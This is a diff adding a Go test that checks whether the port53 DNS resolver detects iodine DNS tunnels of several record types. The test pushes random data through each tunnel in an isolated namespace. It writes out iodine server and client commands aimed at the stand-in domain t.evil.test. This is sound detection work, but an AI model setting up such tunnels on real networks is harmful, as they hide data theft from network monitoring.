@@ -1,0 +1,227 @@
+package conformance_test
+
+import (
+	"encoding/json"
+	"errors"
+	"math/rand/v2"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/miekg/dns"
+	"golang.org/x/sys/unix"
+
+	"port53/conformance/netns"
+)
+
+// A digger is a program that moves data through DNS: its server, its client, which asks port53, and what has data
+// move.
+type digger struct {
+	name   string
+	server []string
+	client []string
+	move   func(*diggers) error
+	files  map[string]string
+	needs  string
+	domain string
+	more   string // of resolver
+}
+
+type diggers struct {
+	*testing.T
+	ns  *netns.Namespace
+	dir string
+}
+
+// TestTunnels has iodine move data through port53, in records of each type that it has: each tunnel is found within a
+// minute, and nothing else is.
+func TestTunnels(t *testing.T) {
+	t.Parallel()
+	bin, err := build()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, d := range allDiggers() {
+		t.Run(d.name, func(t *testing.T) {
+			t.Parallel()
+			for _, args := range [][]string{d.server, d.client} {
+				if _, err := exec.LookPath(args[0]); err != nil {
+					missing(t, err)
+				}
+			}
+			if _, err := os.Stat(d.needs); d.needs != "" && err != nil {
+				missing(t, err)
+			}
+			ns, err := netns.New()
+			if err != nil {
+				missing(t, err)
+			}
+			defer ns.Close()
+			g := &diggers{T: t, ns: ns, dir: t.TempDir()}
+			g.run(bin, d)
+		})
+	}
+}
+
+func allDiggers() (list []digger) {
+	for _, typ := range []string{"NULL", "TXT", "CNAME", "MX", "A"} {
+		list = append(list, digger{
+			name:   "iodine " + typ,
+			server: []string{"/usr/sbin/iodined", "-f", "-c", "-P", "secret", "-l", "127.0.0.2", "-d", "tunS", "10.99.0.1/24", "t.evil.test"},
+			client: []string{"/usr/sbin/iodine", "-f", "-r", "-P", "secret", "-d", "tunC", "-T", typ, "-m", "200", "127.0.0.1", "t.evil.test"},
+			needs:  "/dev/net/tun",
+			domain: "evil.test",
+			move: func(g *diggers) error {
+				return g.ns.Do(func() error {
+					// The other end is of this machine too: what goes to it would not take the tunnel.
+					through := func(_, _ string, c syscall.RawConn) error {
+						var err error
+						return errors.Join(c.Control(func(fd uintptr) { err = unix.BindToDevice(int(fd), "tunC") }), err)
+					}
+					c, err := (&net.Dialer{Control: through}).Dial("udp", "10.99.0.77:9")
+					if err != nil {
+						return err
+					}
+					defer c.Close()
+					random := rand.NewChaCha8([32]byte{})
+					for range 600 { // 2 kB a second
+						b := make([]byte, 200)
+						_, _ = random.Read(b)
+						_, _ = c.Write(b)
+						time.Sleep(100 * time.Millisecond)
+					}
+					return nil
+				})
+			},
+		})
+	}
+	return list
+}
+
+// output runs a program within the namespace.
+func (g *diggers) output(args ...string) (string, error) {
+	var out strings.Builder
+	cmd := exec.Command(args[0], args[1:]...)
+	cmd.Stdout, cmd.Stderr, cmd.Dir = &out, &out, g.dir
+	if err := g.ns.Do(cmd.Start); err != nil {
+		return "", err
+	}
+	err := cmd.Wait()
+	return out.String(), err
+}
+
+// deny answers at an address that no name exists: iodine's answers of type A are aliases for names that are nowhere.
+func (g *diggers) deny(at string) {
+	g.Helper()
+	var pc net.PacketConn
+	if err := g.ns.Do(func() (err error) { pc, err = net.ListenPacket("udp", at); return err }); err != nil {
+		g.Fatal(err)
+	}
+	s := &dns.Server{PacketConn: pc, Handler: dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
+		_ = w.WriteMsg(new(dns.Msg).SetRcode(q, dns.RcodeNameError))
+	})}
+	go func() { _ = s.ActivateAndServe() }()
+	g.Cleanup(func() { pc.Close() })
+}
+
+// begin starts a program within the namespace, until the test ends.
+func (g *diggers) begin(args []string) {
+	g.Helper()
+	cmd := exec.Command(args[0], args[1:]...)
+	log, err := os.Create(filepath.Join(g.dir, filepath.Base(args[0])+".log"))
+	if err != nil {
+		g.Fatal(err)
+	}
+	cmd.Stdout, cmd.Stderr, cmd.Dir = log, log, g.dir
+	if err := g.ns.Do(cmd.Start); err != nil {
+		g.Fatal(err)
+	}
+	g.Cleanup(func() {
+		_ = cmd.Process.Kill()
+		_ = cmd.Wait()
+		if text, err := os.ReadFile(log.Name()); err == nil && g.Failed() {
+			g.Logf("%s:\n%.3000s", args[0], text)
+		}
+		log.Close()
+	})
+}
+
+func (g *diggers) run(bin string, d digger) {
+	writeViews(g.T, g.dir, "port53.yaml", `role: internal-resolver
+listen: [127.0.0.1]
+state_dir: state
+metrics: {listen: off}
+control: {socket: s}
+resolver:
+  allow: [127.0.0.0/8]
+  stub: [{zone: evil.test, to: [127.0.0.2]}]
+  forward: [{zone: ., to: [127.0.0.3]}]
+  validation: false
+  special_names: false
+`)
+	g.deny("127.0.0.3:53")
+	g.begin(d.server)
+	g.begin([]string{bin, "serve", "--config", "port53.yaml"})
+	type tunnel struct {
+		Client, Domain string
+		Why            []string
+	}
+	look := func() []tunnel {
+		var report struct{ Tunnels []tunnel }
+		out, err := g.output(bin, "top", "--tunnels", "--json", "--config", "port53.yaml")
+		if err == nil {
+			err = json.Unmarshal([]byte(out), &report)
+		}
+		if err != nil {
+			g.Logf("port53 top: %v: %s", err, out)
+		}
+		return report.Tunnels
+	}
+	for end := time.Now().Add(20 * time.Second); ; time.Sleep(100 * time.Millisecond) {
+		if _, err := os.Stat(filepath.Join(g.dir, "s")); err == nil {
+			break
+		}
+		if time.Now().After(end) {
+			g.Fatal("port53 does not start")
+		}
+	}
+	g.begin(d.client)
+	// The tunnel is there once the client has found out what passes.
+	for end := time.Now().Add(2 * time.Minute); ; time.Sleep(200 * time.Millisecond) {
+		if text, _ := os.ReadFile(filepath.Join(g.dir, "iodine.log")); strings.Contains(string(text), "Connection setup complete") {
+			break
+		}
+		if time.Now().After(end) {
+			g.Fatal("the tunnel is not there")
+		}
+	}
+	begun := time.Now()
+	done := make(chan error, 1)
+	go func() { done <- d.move(g) }()
+	for {
+		list := look()
+		if len(list) == 1 && list[0].Client == "127.0.0.1" && strings.TrimSuffix(list[0].Domain, ".") == d.domain {
+			g.Logf("found after %.0f s: %v", time.Since(begun).Seconds(), list[0].Why)
+			return
+		}
+		if len(list) > 1 {
+			g.Errorf("more is taken for a tunnel: %+v", list)
+		}
+		if time.Since(begun) > time.Minute {
+			g.Fatalf("not found in a minute: %+v", list)
+		}
+		select {
+		case err := <-done:
+			if err != nil {
+				g.Fatal(err)
+			}
+			done = nil
+		case <-time.After(time.Second):
+		}
+	}
+}
